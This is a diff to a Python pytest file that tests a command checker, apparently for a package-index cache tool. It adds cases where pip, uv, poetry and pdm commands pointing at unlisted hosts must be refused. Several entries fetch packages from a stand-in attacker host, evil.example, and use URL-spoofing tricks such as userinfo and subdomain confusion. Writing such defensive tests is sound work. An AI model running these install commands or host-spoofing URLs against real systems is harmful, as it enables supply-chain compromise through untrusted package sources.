@@ -7,7 +7,13 @@ import shlex
 
 import pytest
 
+from pytest_indexcache.messages import HostPort
 from pytest_indexcache.scenario.commands import split_command
+from pytest_indexcache.scenario.values.reach import Reach
+
+REACH = Reach(
+    frozenset({HostPort("a.example", 443), HostPort("a.example", 8080)}), frozenset({"six"})
+)
 
 CODE = "python -c 'import six; print(six.__version__)'"
 
@@ -107,6 +113,21 @@ REFUSED = [
     ("pip install https://a.example/x.zip#subdirectory=../../x", "is not a requirement"),
     ("pip install https://a.example/x.zip#subdirectory=/abs", "is not a requirement"),
     ("pip install https://a.example/x.zip#egg=x&subdirectory=%2fabs", "is not a requirement"),
+    # Hosts of no index.
+    ("pip install -i https://evil.example/simple six", "no index of the scenario is at 'evil.ex"),
+    ("pip install --extra-index-url=http://a.example/simple six", "is at 'a.example' (they are"),
+    ("pip install -fhttps://a.example:8443/x.html six", "no index of the scenario is at 'a.exampl"),
+    ("pip install https://a.example@evil.example/six-1.0.zip", "no index of the scenario is at"),
+    ("pip install https://evil.example@b@a.example/six-1.0.zip", "no index of the scenario is"),
+    ("pip install https:///a.example/six-1.0.zip", "is not a requirement"),
+    ("pip install -r https://a.example.evil.example/r.txt", "no index of the scenario is at"),
+    ("uv add 'six @ https://evil.example/six-1.0.zip'", "no index of the scenario"),
+    ("uv run --with six,https://evil.example/six-1.0.zip " + CODE, "no index of the scenario"),
+    ("uv sync --index evil=https://evil.example/simple", "they are at a.example and a.example:80"),
+    ("uv auth login https://evil.example", "no index of the scenario is at 'evil.example'"),
+    ("poetry source add x https://evil.example/simple", "no index of the scenario is at"),
+    ("poetry config repositories.x https://evil.example", "no index of the scenario is at"),
+    ("pdm config pypi.url https://evil.example/simple", "no index of the scenario is at"),
     # Words that the parser does not know, or that releases read differently.
     ("uv sync --frobnicate", "'--frobnicate' is not an option that a scenario may use in uv sync"),
     ("pip install --req r.txt", "--requirement (options are written in full)"),
@@ -208,12 +229,12 @@ def test_command_is_refused_with_its_reason(command: str, reason: str) -> None:
     """A command line that would start a program or leave the workspace does not pass the check."""
     installer = command.split(maxsplit=1)[0].replace("uvx", "uv")
     with pytest.raises(ValueError, match=re.escape(reason)):
-        split_command(installer, command, {"six"})
+        split_command(installer, command, REACH)
 
 
 @pytest.mark.parametrize("command", ACCEPTED)
 def test_command_of_reports_is_accepted(command: str) -> None:
     """A command line as reports have it passes the check, word for word."""
     installer = command.split(maxsplit=1)[0].replace("uvx", "uv")
-    words = split_command(installer, command, {"six"})
+    words = split_command(installer, command, REACH)
     assert words[-1] == shlex.split(command)[-1]
